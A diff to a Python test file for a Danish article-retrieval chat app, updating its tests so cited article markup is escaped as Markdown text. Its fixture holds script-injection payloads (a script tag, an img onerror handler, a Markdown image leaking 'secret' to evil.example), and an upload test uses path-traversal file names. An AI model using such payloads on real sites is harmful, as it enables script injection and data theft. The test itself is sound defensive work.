@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 import dataclasses
 import json
 import shutil
@@ -24,6 +26,7 @@ from coiassist.indexer import index_corpus
 from coiassist.models import Answer
 from coiassist.phrases import phrases_for
 from coiassist.retrieval import SearchFilters
+from coiassist.sanitize import escape_markdown
 from coiassist.ui import ChatApp, build_app, check_bind, launch_options
 from coiassist.ui_text import ui_text
 from tests.conftest import ARTICLES, REPO, write_corpus
@@ -32,10 +35,11 @@ from tests.llm_server import LLMServer, json_error
 # An article carrying every kind of markup that must stay inert when it is cited.
 EVIL = (
     "---\ntitle: Skærmbesøg i Odense <script>window.__pwned=1</script>\nlang: da\n---\n"
-    "Odense Kommune tilbyder skærmbesøg til ældre borgere i eget hjem. "
-    "<script>window.__pwned=1</script> "
-    "Over 300 borgere i Odense fik skærmbesøg i 2022 ![x](http://evil.example/?q=secret) "
-    '<img src=http://127.0.0.1:1/x onerror="window.__pwned=1"> og var glade for det. '
+    "Odense Kommune tilbyder skærmbesøg til ældre borgere i eget hjem.\n\n"
+    "<script>window.__pwned=1</script>\n\n"
+    "I 2022 fik 300 borgere i Odense skærmbesøg af kommunens sygeplejersker.\n\n"
+    "![x](http://evil.example/?q=secret)\n\n"
+    '<img src=http://127.0.0.1:1/x onerror="window.__pwned=1">\n\n'
     "Sygeplejerskerne i Odense sparede mange kilometer i bil.\n"
 )
 EVIL_QUESTION = "Hvor mange borgere i Odense fik skærmbesøg i 2022?"
@@ -91,7 +95,7 @@ def test_answer_streams_then_ends_with_markers_and_a_sources_block(app: ChatApp)
     assert "500" in answer and "\\[" in answer  # the [n] marker, escaped so it shows as text
     key = turns[0]["citations"][0]["key"]
     assert f"\\[{key}\\]" in answer
-    assert sources["metadata"]["title"].startswith("Kilder")
+    assert sources["content"].startswith(f"**Kilder ({len(turns[0]['citations'])})**")
     assert "<mark>" in sources["content"] and "500" in sources["content"].split("<mark>")[1]
     assert "4 vigtige takeaways fra Velfærdens Innovationsdag 2020" in sources["content"]
     assert "2020\\-02\\-27" in sources["content"] and "Dansk" in sources["content"]
@@ -112,12 +116,13 @@ def test_article_markup_is_shown_as_text_never_as_markup(app: ChatApp) -> None:
     assert any("Odense" in c["title"] for c in turns[0]["citations"])
     for message in messages:
         shown = message["content"]
-        assert "<script" not in shown and "<img" not in shown
-        assert "](http" not in shown and "![" not in shown
+        # Every "<" and "![" from the article is backslash-escaped: Markdown shows it as text.
+        assert not re.search(r"(?<!\\)<(script|img)", shown)
+        assert not re.search(r"(?<!\\)\]\(http", shown) and not re.search(r"(?<!\\)!(?!\\)\[", shown)
     sources = messages[-1]["content"]
-    assert "&lt;script" in sources  # escaped, so it is visible as text in the passage
+    assert "\\<script\\>" in sources  # escaped, so it is visible as text in the passage
     article = ChatApp.open_article(app, str(turns[0]["citations"][0]["key"]), turns, "da")
-    assert "<script" not in article and "<img" not in article and "![" not in article
+    assert not re.search(r"(?<!\\)<(script|img)", article)
 
 
 def test_whole_article_opens_at_the_cited_passage(app: ChatApp) -> None:
@@ -129,7 +134,9 @@ def test_whole_article_opens_at_the_cited_passage(app: ChatApp) -> None:
     quoted = [line for line in shown.splitlines() if line.startswith(">")]
     assert any("<mark>" in line and "500" in line for line in quoted)
     # more than the chunk: the article's opening is there too, outside the quote
-    assert "COI var at finde til Velfærdens Innovationsdag 2020" in shown.split(ui_text("da").cited_passage)[0]
+    assert (
+        "COI var at finde til Velfærdens Innovationsdag 2020" in shown.split(ui_text("da").cited_passage)[0]
+    )
 
 
 def test_follow_up_passes_the_conversation_to_the_assistant(settings: Settings) -> None:
@@ -172,7 +179,9 @@ def test_bad_questions_get_a_message_in_the_ui_language(app: ChatApp, settings: 
     messages, _, _ = final(ask(app, "  ?!  ", lang="nn"))
     assert messages[-1]["content"] == ui_text("nn").question_empty
     messages, _, _ = final(ask(app, "ord " * settings.max_question_chars, lang="nb"))
-    assert messages[-1]["content"] == ui_text("nb").question_too_long.format(limit=settings.max_question_chars)
+    assert messages[-1]["content"] == ui_text("nb").question_too_long.format(
+        limit=settings.max_question_chars
+    )
 
 
 def test_unanswerable_question_is_refused_with_a_hint(app: ChatApp) -> None:
@@ -196,8 +205,8 @@ def test_backend_down_falls_back_and_says_so(settings: Settings) -> None:
         messages, turns, status = final(ask(ChatApp(down), DANISH_QUESTION))
     assert turns[0]["backend"] == "extractive"
     assert status.startswith(ui_text("da").backend_extractive)
-    assert phrases_for("da").fallback in status
-    assert phrases_for("da").fallback in messages[1]["content"]
+    assert escape_markdown(phrases_for("da").fallback) in status
+    assert escape_markdown(phrases_for("da").fallback) in messages[1]["content"]
 
 
 def test_feedback_is_appended_with_the_answer_and_its_sources(app: ChatApp, settings: Settings) -> None:
@@ -242,9 +251,13 @@ def test_upload_name_rules() -> None:
         assert admin.upload_suffix(bad) is None, bad
 
 
-def test_uploads_are_checked_and_stored_under_generated_names(admin_settings: Settings, tmp_path: Path) -> None:
+def test_uploads_are_checked_and_stored_under_generated_names(
+    admin_settings: Settings, tmp_path: Path
+) -> None:
     incoming = tmp_path / "incoming"
-    good = _file(incoming, "ok.txt", "Robotter i Vejle\n\nVejle Kommune har købt 14 robotter til rengøring.\n")
+    good = _file(
+        incoming, "ok.txt", "Robotter i Vejle\n\nVejle Kommune har købt 14 robotter til rengøring.\n"
+    )
     files = [
         ("../../evil.txt", good),
         ("virus.exe", good),
@@ -271,13 +284,19 @@ def test_uploads_are_checked_and_stored_under_generated_names(admin_settings: Se
 
 def test_jsonl_upload_reusing_an_indexed_id_is_refused(admin_settings: Settings, tmp_path: Path) -> None:
     line = json.dumps({"id": "velfaerd", "title": "Kopi", "text": "En kopi af en artikel om velfærd."})
-    report = admin.save_uploads(admin_settings, [("bulk.jsonl", _file(tmp_path, "bulk.jsonl", line))], {"velfaerd"})
+    report = admin.save_uploads(
+        admin_settings, [("bulk.jsonl", _file(tmp_path, "bulk.jsonl", line))], {"velfaerd"}
+    )
     assert [r.code for r in report.rejected] == ["duplicate_id"]
 
 
 def test_upload_reindex_answer_then_delete(admin_settings: Settings, tmp_path: Path) -> None:
     chat = ChatApp(admin_settings)
-    upload = _file(tmp_path / "in", "vejle.md", "# Robotter i Vejle\n\nVejle Kommune har købt 14 robotter til rengøring.\n")
+    upload = _file(
+        tmp_path / "in",
+        "vejle.md",
+        "# Robotter i Vejle\n\nVejle Kommune har købt 14 robotter til rengøring.\n",
+    )
     result, stats, picker = chat.upload([str(upload)], "", "da")
     assert ui_text("da").accepted in result and "Indekseret: 1 tilføjet" in result
     assert "| Artikler | 4 |" in stats
@@ -353,13 +372,21 @@ def served(settings: Settings) -> Iterator[str]:
         demo.close()
 
 
+def text_of(message: dict[str, Any]) -> str:
+    """A message's text; Gradio 6 sends content as a list of blocks."""
+    content = message["content"]
+    if isinstance(content, str):
+        return content
+    return "".join(block.get("text", "") for block in content if isinstance(block, dict))
+
+
 def test_client_gets_a_streamed_answer_with_sources(served: str) -> None:
     client = Client(served, verbose=False)
     job = client.submit(DANISH_QUESTION, "da", "auto", api_name="/chat")
     outputs = job.outputs()
     messages, _, status, _ = job.result()
     assert len(outputs) >= 2
-    assert "500" in messages[1]["content"] and "<mark>" in messages[2]["content"]
+    assert "500" in text_of(messages[1]) and "<mark>" in text_of(messages[2])
     assert status == ui_text("da").backend_extractive
 
 
